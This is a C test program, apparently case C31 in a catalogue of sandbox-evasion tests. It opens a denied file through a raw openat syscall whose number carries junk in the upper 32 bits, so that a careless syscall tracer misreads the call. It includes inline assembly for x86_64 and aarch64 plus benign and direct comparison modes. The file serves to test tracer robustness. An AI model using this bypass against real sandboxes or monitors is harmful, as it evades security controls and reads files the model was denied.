// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: a call is known by the part of its number that the kernel looks at
 * (catalogue C31).
 *
 *	number register			the kernel			a careless tracer
 *	openat				openat				openat
 *	junk << 32 | openat		openat: it takes an int		no such call
 *
 * Winning prints DATA and the content of the denied file.
 */
#include "attack.h"

#define ODD(number) ((long)(0x7ead00000000ul | (unsigned long)(number)))

static long odd_openat(const char *name)
{
#if defined(__x86_64__)
	register long mode __asm__("r10") = 0;
	long result = ODD(SYS_openat);

	__asm__ volatile("syscall"
			 : "+a"(result)
			 : "D"((long)AT_FDCWD), "S"(name), "d"((long)(O_RDONLY | O_CLOEXEC)), "r"(mode)
			 : "memory", "rcx", "r11");
#elif defined(__aarch64__)
	register long number __asm__("x8") = ODD(SYS_openat);
	register long result __asm__("x0") = AT_FDCWD;
	register const char *path __asm__("x1") = name;
	register long flags __asm__("x2") = O_RDONLY | O_CLOEXEC;
	register long mode __asm__("x3") = 0;

	__asm__ volatile("svc #0"
			 : "+r"(result)
			 : "r"(number), "r"(path), "r"(flags), "r"(mode)
			 : "memory");
#else
#error "here the kernel takes the whole register for the number"
#endif
	return result;
}

static void attack(struct run *run)
{
	long fd = odd_openat(run->denied);

	run->attempts = 1;
	errno = fd < 0 ? (int)-fd : 0;
	run_opened(run, fd < 0 ? -1 : (int)fd);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		run_plain_read(&run, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		attack(&run);
		break;
	}
	run_end(&run);
}
